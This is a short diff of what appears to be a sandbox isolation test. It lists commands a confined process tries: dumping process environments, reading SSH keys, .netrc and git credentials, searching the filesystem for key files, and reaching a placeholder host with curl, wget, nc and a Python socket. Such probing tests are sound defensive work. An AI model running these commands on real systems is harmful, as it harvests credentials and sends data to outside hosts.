@@ -24,7 +24,7 @@ SMALL = Limits(memory_bytes=256 * 1024**2, pids=64, disk_bytes=48 * 1024**2)
 TRIES = (
     "cat /proc/self/environ /proc/1/environ /proc/*/environ | tr '\\0' '\\n'",
     "env; set; export -p",
-    "cat {home}/secret.txt /root/.ssh/* /home/*/.ssh/* /root/.config/* ~/.netrc ~/.git-credentials",
+    "cat {home}/secret.txt /home/*/.ssh/* /home/*/.config/* ~root/.ssh/* ~/.netrc ~/.git-credentials",
     "find / -name 'secret.txt' -o -name 'master.key' -o -name '*.pem' 2>/dev/null | xargs cat",
     "curl -sm 2 http://{host}:{port}/$(hostname); wget -qT 2 -O- http://127.0.0.1:{port}/; echo x | nc -w 2 {host} {port}",
     'python3 -c \'import socket; socket.create_connection(("{host}", {port}), 2).send(b"GET / HTTP/1.0\\r\\n\\r\\n")\'',
